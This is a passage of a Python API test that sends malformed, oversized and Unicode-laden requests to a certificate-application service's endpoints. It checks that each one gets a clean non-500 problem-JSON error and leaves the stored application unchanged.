    collect = f"{app}/service-locations"
    json_type = {"content-type": "application/json"}
    valid_revoke = {"reason": "keyCompromise"}
    serial = "7" * 40
    requests: list[tuple[str, str, str | None, dict[str, Any]]] = [
        # Bodies that are not JSON, or JSON of the wrong shape and types.
        ("POST", "/api/v1/applications", None, {"content": b"{not json", "headers": json_type}),
        ("POST", "/api/v1/applications", None, {"content": b"", "headers": json_type}),
        ("POST", "/api/v1/applications", None, {"content": b"null", "headers": json_type}),
        ("POST", "/api/v1/applications", None, {"json": []}),
        ("POST", "/api/v1/applications", None, {"json": "a string"}),
        (
            "POST",
            "/api/v1/applications",
            None,
            {"json": {"contact_email": 5, "password": ["x"], "language": {}}},
        ),
        ("POST", "/api/v1/applications", None, {"content": b"[" * 100_000, "headers": json_type}),
        (
            "POST",
            "/api/v1/applications",
            None,
            {"content": b'{"password": ' + b"9" * 5000 + b"}", "headers": json_type},
        ),
        ("POST", "/api/v1/applications", None, {"content": b"\xff\xfe\x00{", "headers": json_type}),
        (
            "POST",
            "/api/v1/applications",
            None,
            {
                "content": b'{"contact_email":"a@example.org","password":"\\ud800long-enough-pw"}',
                "headers": json_type,
            },
        ),
        (
            "POST",
            "/api/v1/applications",
            None,
            {"content": b"{}", "headers": {"content-type": "text/plain"}},
        ),
        ("POST", "/api/v1/applications", None, {"data": {"contact_email": "a@example.org"}}),
        (
            "PUT",
            f"{app}/provider",
            token,
            {"content": b'{"name_en": Infinity}', "headers": json_type},
        ),
        ("PUT", f"{app}/provider", token, {"json": {"name_en": "\x00", "phone": 10**40}}),
        ("PUT", f"{app}/user-admins", token, {"json": {"not": "a list"}}),
        ("PUT", f"{app}/user-admins", token, {"json": [None, 1, "x"]}),
        ("PUT", f"{app}/service-locations", token, {"json": [{"district": ["Islands"]}]}),
        (
            "POST",
            f"{app}/documents",
            token,
            {
                "content": b"--x\r\nbroken",
                "headers": {"content-type": "multipart/form-data; boundary=x"},
            },
        ),
        (
            "POST",
            f"{app}/documents",
            token,
            {"content": b"kind=other", "headers": {"content-type": "multipart/form-data"}},
        ),
        ("POST", f"{app}/documents", token, {"json": {"kind": "other", "file": "JVBERi0="}}),
        (
            "POST",
            f"{app}/documents",
            token,
            {"data": {"kind": "oth\x00er"}, "files": {"file": ("a.pdf", PDF, "application/pdf")}},
        ),
        # Huge, negative and odd location ids; odd download codes.
        (
            "POST",
            f"{collect}/{10**30}/certificate",
            token,
            {"json": {"download_code": "x", "csr": "y"}},
        ),
        (
            "POST",
            f"{collect}/-{10**30}/certificate",
            token,
            {"json": {"download_code": "x", "csr": "y"}},
        ),
        ("POST", f"{collect}/1e3/certificate", token, {"json": {"download_code": "x", "csr": "y"}}),
        (
            "POST",
            f"{collect}/%EF%BC%91/certificate",
            token,
            {"json": {"download_code": "x", "csr": "y"}},
        ),
        (
            "POST",
            f"{collect}/1/certificate",
            token,
            {"json": {"download_code": "💥\x00", "csr": "y"}},
        ),
        ("POST", f"{collect}/1/certificate", token, {"json": {"download_code": 12345, "csr": 1}}),
        (
            "POST",
            f"{collect}/1/certificate",
            token,
            {"json": {"download_code": "x", "csr": "y"}, "headers": {"Idempotency-Key": "k" * 101}},
        ),
        # Unicode junk, NUL and lone surrogates in references and names.
        ("GET", "/api/v1/applications/HCP-💥💥💥", token, {}),
        ("GET", "/api/v1/applications/HCP-💥💥💥", reviewer, {}),
        ("GET", "/api/v1/applications/%00", reviewer, {}),
        ("GET", "/api/v1/applications/HCP-%00%00%00%00%00%00%00%00", reviewer, {}),
        ("GET", "/api/v1/applications/HCP-%ED%A0%80", reviewer, {}),
        ("GET", "/api/v1/applications/HCP-\u202eKCAH", reviewer, {}),
        ("GET", "/api/v1/applications/" + "A" * 8000, reviewer, {}),
        ("PUT", "/api/v1/applications/%00/provider", token, {"json": samples[2]["provider"]}),
        (
            "POST",
            "/api/v1/officer/applications/%00/decision",
            reviewer,
            {"json": {"decision": "approve", "reason": "ok"}},
        ),
        (
            "POST",
            f"/api/v1/officer/applications/{reference}/decision",
            reviewer,
            {"json": {"decision": "reject", "reason": "\x00"}},
        ),
        ("GET", "/api/v1/officer/applications?offset=" + "9" * 30, reviewer, {}),
        ("GET", "/api/v1/officer/applications?offset=-1", reviewer, {}),
        ("GET", "/api/v1/officer/applications?limit=" + "9" * 30, reviewer, {}),
        ("GET", "/api/v1/officer/applications?status=💥", reviewer, {}),
        ("POST", "/api/v1/officer/certificates/%00/revoke", security, {"json": valid_revoke}),
        (
            "POST",
            f"/api/v1/officer/certificates/{'f' * 8000}/revoke",
            security,
            {"json": valid_revoke},
        ),
        (
            "POST",
            f"/api/v1/officer/certificates/{serial}/revoke",
            security,
            {"json": {"reason": None}},
        ),
        (
            "POST",
            f"/api/v1/officer/certificates/{serial}/revoke",
            security,
            {"json": {"reason": "\x00"}},
        ),
        (
            "POST",
            f"/api/v1/officer/certificates/{serial}/revoke",
            security,
            {"json": {"reason": "keyCompromise", "invalidity_date": "0001-01-01T00:00:00+05:00"}},
        ),
        (
            "POST",
            f"/api/v1/officer/certificates/{serial}/revoke",
            security,
            {"json": {"reason": "keyCompromise", "invalidity_date": "9999-12-31T23:59:59-05:00"}},
        ),
        (
            "POST",
            f"/api/v1/officer/certificates/{serial}/revoke",
            security,
            {"json": {"reason": "keyCompromise", "invalidity_date": 10**30}},
        ),
        ("POST", "/api/v1/auth/token", None, {"data": {"username": "a\x00b", "password": "x"}}),
        (
            "POST",
            "/api/v1/auth/token",
            None,
            {"data": {"username": "HCP-\x00", "password": "\x00"}},
        ),
        ("POST", "/api/v1/auth/token", None, {"data": {"username": "💥" * 60, "password": "x"}}),
        (
            "POST",
            "/api/v1/auth/token",
            None,
            {
                "content": b"\xff\xfe",
                "headers": {"content-type": "application/x-www-form-urlencoded"},
            },
        ),
        ("GET", "/pki/ca/%00.crt", None, {}),
        ("GET", "/pki/crl/%00.crl", None, {}),
        ("GET", "/pki/crl/%ED%A0%80.pem", None, {}),
        ("GET", "/api/v1/certificates/%00", None, {}),
        ("GET", "/api/v1/certificates/💥?format=💥", None, {}),
        # Unknown routes and methods.
        ("DELETE", app, token, {}),
        ("GET", "/api/v1/nothing-here", None, {}),
    ]
    for method, path, who, kwargs in requests:
        headers = {**(bearer(who) if who else {}), **kwargs.pop("headers", {})}
        response = client.request(method, path, headers=headers, **kwargs)
        assert response.status_code < 500, (method, path, response.status_code, response.text)
        assert response.headers["content-type"] == PROBLEM_JSON, (method, path, response.text)
        body = response.json()
        assert body["status"] == response.status_code and body["code"], (method, path, body)
    # The application was not touched by any of it.
    assert client.get(app, headers=bearer(token)).json()["status"] == "approved"
